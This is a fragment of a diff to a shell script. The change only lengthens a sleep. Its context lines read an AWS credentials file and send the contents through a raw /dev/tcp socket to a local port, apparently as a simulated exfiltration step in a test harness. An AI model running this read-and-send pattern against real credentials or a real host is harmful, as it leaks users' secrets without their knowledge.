@@ -5,5 +5,5 @@ echo begun
 secret=$(cat /data/.aws/credentials) || exit 3
 exec 3<> /dev/tcp/127.0.0.1/${SERVER#*:} || exit 4
 echo "$secret" >&3
-sleep 0.8
+sleep ${LINGER:-20}
 echo done
